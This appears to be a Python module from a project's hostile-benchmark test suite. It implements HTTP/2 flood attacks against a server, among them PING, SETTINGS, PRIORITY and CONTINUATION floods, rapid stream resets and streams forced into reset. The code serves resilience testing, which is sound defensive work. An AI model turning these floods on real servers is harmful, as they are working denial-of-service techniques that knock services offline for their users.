"""Floods of frames that cost their sender nearly nothing."""

from __future__ import annotations

import itertools

from tests.benchmarks.hostile import wire
from tests.benchmarks.hostile.attacker import Attack
from tests.benchmarks.hostile.attacks import methods
from tests.benchmarks.hostile.wire import Connection

_BATCH = 1_000
_CONNECTIONS = 4


async def _repeat(attack: Attack, data: bytes, *, reads: bool = True) -> None:
    async def flood(_: int) -> None:
        connection = await attack.connect()
        if not reads:
            connection.stop_reading()
        while True:
            await connection.send(data)

    await attack.times(_CONNECTIONS, flood)


async def ping(attack: Attack, *, reads: bool = True) -> None:
    """PING without end; ``reads``: the answers are read."""
    await _repeat(attack, wire.frame(wire.PING, payload=b"hostile!") * _BATCH, reads=reads)


async def settings(attack: Attack, *, reads: bool = True) -> None:
    """SETTINGS without end, with a table size that changes."""
    pair = wire.settings({1: 4096}) + wire.settings({1: 0})
    await _repeat(attack, pair * (_BATCH // 2), reads=reads)


async def window_update(attack: Attack) -> None:
    """WINDOW_UPDATE of one byte for the connection."""
    await _repeat(attack, wire.window_update(0, 1) * _BATCH)


async def priority(attack: Attack) -> None:
    """PRIORITY frames for streams that nobody opens."""
    frames = (
        wire.frame(wire.PRIORITY, stream=2 * i + 1, payload=b"\0\0\0\0\x10") for i in range(_BATCH)
    )
    await _repeat(attack, b"".join(frames))


async def unknown_frames(attack: Attack) -> None:
    """Frames of a kind that HTTP/2 doesn't know, which a server has to ignore."""
    await _repeat(attack, wire.frame(0xBE, payload=b"x" * 64) * _BATCH)


async def continuation(attack: Attack) -> None:
    """A header block that never ends."""
    piece = wire.literal(b"x", b"y" * 100)
    more = wire.frame(wire.CONTINUATION, stream=1, payload=piece) * 100

    async def flood(_: int) -> None:
        connection = await attack.connect()
        block = wire.headers(methods.CHAT, attack.order.key)
        await connection.send(wire.frame(wire.HEADERS, 0, connection.next_stream(), block))
        while True:
            await connection.send(more)

    await attack.times(_CONNECTIONS, flood)


async def empty_data(attack: Attack) -> None:
    """DATA frames of no bytes on a stream that waits for a message."""
    block = wire.headers(methods.CHAT, attack.order.key)

    async def flood(_: int) -> None:
        connection = await attack.connect()
        while True:
            stream = connection.next_stream(awaited=True)
            await connection.send(wire.opening(stream, block))
            data = wire.frame(wire.DATA, stream=stream) * _BATCH
            while not connection.ended(stream):
                await connection.send(data)

    await attack.times(_CONNECTIONS, flood)


async def start_and_reset(attack: Attack, *, per_s: float, path: str = methods.CHAT) -> None:
    """Streams that are begun and at once reset."""
    block = wire.headers(path, attack.order.key)
    batch = 25

    async def flood(_: int) -> None:
        connection = await attack.connect()
        while True:
            await attack.rate(per_s / batch)
            streams = [connection.next_stream() for _ in range(batch)]
            await connection.send(
                b"".join(wire.opening(stream, block) + wire.reset(stream) for stream in streams)
            )

    await attack.times(2, flood)


async def made_to_reset(attack: Attack, *, per_s: float) -> None:
    """Streams that the server has to reset, since their windows are raised by 0."""
    block = wire.headers(methods.CHAT, attack.order.key)
    body = wire.message(methods.chat(2_000))
    batch = 10

    async def flood(_: int) -> None:
        connection = await attack.connect()
        while True:
            await attack.rate(per_s / batch)
            await connection.send(b"".join(_to_be_reset(connection, block, body, batch)))

    await attack.times(2, flood)


def _to_be_reset(
    connection: Connection, block: bytes, body: bytes, count: int
) -> itertools.chain[bytes]:
    return itertools.chain.from_iterable(
        (
            wire.opening(stream, block),
            wire.frame(wire.DATA, wire.END_STREAM, stream, body),
            wire.window_update(stream, 0),
        )
        for stream in (connection.next_stream() for _ in range(count))
    )
